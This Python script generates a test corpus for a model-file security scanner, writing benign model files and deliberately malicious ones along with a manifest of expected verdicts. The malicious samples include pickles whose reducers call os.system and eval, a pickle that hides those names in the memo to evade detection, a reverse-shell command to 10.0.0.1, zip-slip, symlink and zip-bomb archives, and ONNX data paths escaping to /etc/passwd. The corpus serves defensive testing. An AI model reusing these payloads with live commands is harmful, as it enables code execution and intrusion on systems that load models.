#!/usr/bin/python3
"""Writes the security_artifact test corpus under tests/corpus/security/.

Run with Debian's interpreter and packages (apt-get install -y python3-torch python3-onnx
python3-numpy):  /usr/bin/python3 tests/corpus/make_security_corpus.py

Nothing here is executed: payloads are only pickled, and their commands are harmless echoes.
Every file is a few KB. The output is committed; the tests read the files, never this script.
"""
import io
import os
import pickle
import struct
import sys
import zipfile

import numpy as np
import onnx
import torch
from onnx import TensorProto, helper

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from corpus_common import update_manifest  # noqa: E402

OUT = os.path.join(os.path.dirname(os.path.abspath(__file__)), "security")
BENIGN = os.path.join(OUT, "benign")
MALICIOUS = os.path.join(OUT, "malicious")
PAYLOAD = "echo mlops-corpus-payload"


def write(path, data):
    with open(path, "wb") as f:
        f.write(data)


class SystemCall:
    """Unpickles to os.system(PAYLOAD); on Linux pickle names it posix.system."""

    def __reduce__(self):
        return (os.system, (PAYLOAD,))


class EvalCall:
    """Unpickles to builtins.eval of an expression that would run a command."""

    def __reduce__(self):
        return (eval, ("__import__('os').system('%s')" % PAYLOAD,))


def zip_bytes(entries):
    """entries: (ZipInfo or name, data, compress_type)"""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for info, data, compression in entries:
            if isinstance(info, str):
                info = zipfile.ZipInfo(info, date_time=(2026, 1, 1, 0, 0, 0))
            info.compress_type = compression
            archive.writestr(info, data)
    return buffer.getvalue()


def benign():
    torch.manual_seed(0)
    torch.save(torch.nn.Linear(4, 3).state_dict(), os.path.join(BENIGN, "state_dict.pt"))
    scripted = torch.jit.script(torch.nn.Sequential(torch.nn.Linear(4, 3), torch.nn.ReLU()))
    scripted.save(os.path.join(BENIGN, "torchscript.pt"))

    lists = {"layers": [1, 2, 3], "names": ["a", "b"], "nested": [[0.5, 1.5], []]}
    write(os.path.join(BENIGN, "dict_of_lists.pkl"), pickle.dumps(lists, protocol=4))
    write(os.path.join(BENIGN, "dict_of_lists_protocol0.pkl"), pickle.dumps(lists, protocol=0))

    np.save(os.path.join(BENIGN, "float_array.npy"), np.arange(12, dtype=np.float32).reshape(3, 4))
    np.savez_compressed(os.path.join(BENIGN, "arrays.npz"), a=np.ones(8), b=np.zeros((2, 2)))
    # numpy arrays pickled by value (numpy.core.multiarray._reconstruct, numpy.dtype, ...).
    write(os.path.join(BENIGN, "numpy_in_pickle.pkl"),
          pickle.dumps({"w": np.ones(4, dtype=np.float32)}, protocol=2))

    weight = helper.make_tensor("w", TensorProto.FLOAT, [2], [1.0, 2.0])
    graph = helper.make_graph(
        [helper.make_node("Add", ["x", "w"], ["y"])], "add",
        [helper.make_tensor_value_info("x", TensorProto.FLOAT, [2])],
        [helper.make_tensor_value_info("y", TensorProto.FLOAT, [2])], [weight])
    onnx.save(helper.make_model(graph), os.path.join(BENIGN, "add.onnx"))
    # External data inside the model's directory is fine.
    onnx.save(onnx_with_external_location("weights/w.bin"),
              os.path.join(BENIGN, "external_inside.onnx"))


def onnx_with_external_location(location):
    weight = TensorProto()
    weight.name = "w"
    weight.data_type = TensorProto.FLOAT
    weight.dims.extend([2])
    weight.data_location = TensorProto.EXTERNAL
    for key, value in (("location", location), ("offset", "0"), ("length", "8")):
        entry = weight.external_data.add()
        entry.key, entry.value = key, value
    graph = helper.make_graph(
        [helper.make_node("Add", ["x", "w"], ["y"])], "add",
        [helper.make_tensor_value_info("x", TensorProto.FLOAT, [2])],
        [helper.make_tensor_value_info("y", TensorProto.FLOAT, [2])], [weight])
    return helper.make_model(graph)


def stack_global_hidden_in_memo():
    """Protocol 4: "os" and "system" are memoized early as harmless dict entries, then fetched
    from the memo (BINGET) for STACK_GLOBAL, so no import text appears near the call."""
    def short_unicode(text):
        return b"\x8c" + bytes([len(text)]) + text.encode()
    body = b"".join([
        b"}",                                   # EMPTY_DICT: a decoy config
        b"\x94",                                # MEMOIZE -> 0
        b"(",                                   # MARK
        short_unicode("platform"), b"\x94",     # -> 1
        short_unicode("os"), b"\x94",           # -> 2
        short_unicode("entry"), b"\x94",        # -> 3
        short_unicode("system"), b"\x94",       # -> 4
        b"u",                                   # SETITEMS
        b"0",                                   # POP the dict
        b"h\x02",                               # BINGET 2: "os"
        b"h\x04",                               # BINGET 4: "system"
        b"\x93",                                # STACK_GLOBAL
        short_unicode(PAYLOAD),
        b"\x85",                                # TUPLE1
        b"R",                                   # REDUCE: os.system(PAYLOAD)
        b".",                                   # STOP
    ])
    return b"\x80\x04\x95" + struct.pack("<Q", len(body)) + body


def malicious():
    # Protocol 2, hand-assembled: GLOBAL 'os system', then REDUCE with a one-tuple.
    write(os.path.join(MALICIOUS, "os_system.pkl"),
          b"\x80\x02cos\nsystem\nq\x00X" + struct.pack("<I", len(PAYLOAD)) + PAYLOAD.encode() +
          b"q\x01\x85q\x02Rq\x03.")
    write(os.path.join(MALICIOUS, "stack_global_memo.pkl"), stack_global_hidden_in_memo())

    state = torch.nn.Linear(2, 2).state_dict()
    state["optimizer_hook"] = SystemCall()
    state["config"] = EvalCall()
    torch.save(state, os.path.join(MALICIOUS, "torch_posix_system.pt"))

    np.save(os.path.join(MALICIOUS, "object_array.npy"),
            np.array([SystemCall(), 1], dtype=object), allow_pickle=True)

    # Only a YARA rule catches this one: the pickle itself imports nothing.
    write(os.path.join(MALICIOUS, "reverse_shell_string.pkl"),
          pickle.dumps({"note": "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"}, protocol=4))

    write(os.path.join(MALICIOUS, "zip_slip.zip"),
          zip_bytes([("model/data.txt", b"ok", zipfile.ZIP_STORED),
                     ("../evil", b"overwritten", zipfile.ZIP_STORED)]))

    link = zipfile.ZipInfo("model/weights.bin", date_time=(2026, 1, 1, 0, 0, 0))
    link.create_system = 3
    link.external_attr = (0o120777 << 16)
    write(os.path.join(MALICIOUS, "zip_symlink.zip"),
          zip_bytes([(link, b"/etc/passwd", zipfile.ZIP_STORED)]))

    # 10 MiB of zeros deflate to ~10 KB: a ratio near 1000:1.
    write(os.path.join(MALICIOUS, "zip_bomb.zip"),
          zip_bytes([("zeros.bin", bytes(10 << 20), zipfile.ZIP_DEFLATED)]))

    onnx.save(onnx_with_external_location("../../etc/passwd"),
              os.path.join(MALICIOUS, "escaping_external_data.onnx"))


# security/manifest.json entries for this script's files (the other generators add theirs).
MANIFEST = [
    ("benign/state_dict.pt", "PASSED", "torch_zip", "torch.load(f, weights_only=True)",
     "torch.save of a Linear(4, 3) state dict"),
    ("benign/torchscript.pt", "PASSED", "torchscript", "torch.jit.load(f)",
     "torch.jit.script(Sequential(Linear, ReLU)).save"),
    ("benign/dict_of_lists.pkl", "PASSED", "pickle", "pickle.load", "a dict of lists, protocol 4"),
    ("benign/dict_of_lists_protocol0.pkl", "PASSED", "pickle", "pickle.load",
     "the same dict, protocol 0"),
    ("benign/numpy_in_pickle.pkl", "PASSED", "pickle", "pickle.load",
     "a numpy array pickled by value, protocol 2"),
    ("benign/float_array.npy", "PASSED", "npy", "numpy.load(f, allow_pickle=False)",
     "np.save of a float32 3x4 array"),
    ("benign/arrays.npz", "PASSED", "npz", "numpy.load(f, allow_pickle=False)",
     "np.savez_compressed of two arrays"),
    ("benign/add.onnx", "PASSED", "onnx", "onnx.load", "an ONNX Add model"),
    ("benign/external_inside.onnx", "PASSED", "onnx", "onnx.load",
     "external data inside the model's directory"),
    ("malicious/os_system.pkl", "FAILED", "disallowed_global", "pickle.load",
     "GLOBAL os system, REDUCE (echo)"),
    ("malicious/stack_global_memo.pkl", "FAILED", "disallowed_global", "pickle.load",
     "STACK_GLOBAL of memoized 'os' 'system' (echo)"),
    ("malicious/torch_posix_system.pt", "FAILED", "disallowed_global",
     "torch.load(f, weights_only=False)", "state dict holding posix.system and eval reducers"),
    ("malicious/object_array.npy", "FAILED", "disallowed_global",
     "numpy.load(f, allow_pickle=True)", "object array holding an os.system reducer"),
    ("malicious/reverse_shell_string.pkl", "FAILED", "yara", "pickle.load",
     "a reverse shell command as a string (no import)"),
    ("malicious/zip_slip.zip", "FAILED", "unsafe_zip_path", "zipfile extract", "entry ../evil"),
    ("malicious/zip_symlink.zip", "FAILED", "zip_symlink", "zipfile extract",
     "entry that is a symlink to /etc/passwd"),
    ("malicious/zip_bomb.zip", "FAILED", "zip_bomb", "zipfile read",
     "10 MiB of zeros, ~1000:1, in an archive that is not a model format"),
    ("malicious/escaping_external_data.onnx", "FAILED", "escaping_external_data", "onnx.load",
     "external data at ../../etc/passwd"),
]


def write_manifest():
    update_manifest(("security/benign/", "security/malicious/"), [
        {"path": "security/" + path, "expect": expect, "class": klass, "loader": loader,
         "why": why} for path, expect, klass, loader, why in MANIFEST])


def main():
    if "--manifest-only" not in sys.argv:
        os.makedirs(BENIGN, exist_ok=True)
        os.makedirs(MALICIOUS, exist_ok=True)
        benign()
        malicious()
    write_manifest()


if __name__ == "__main__":
    main()
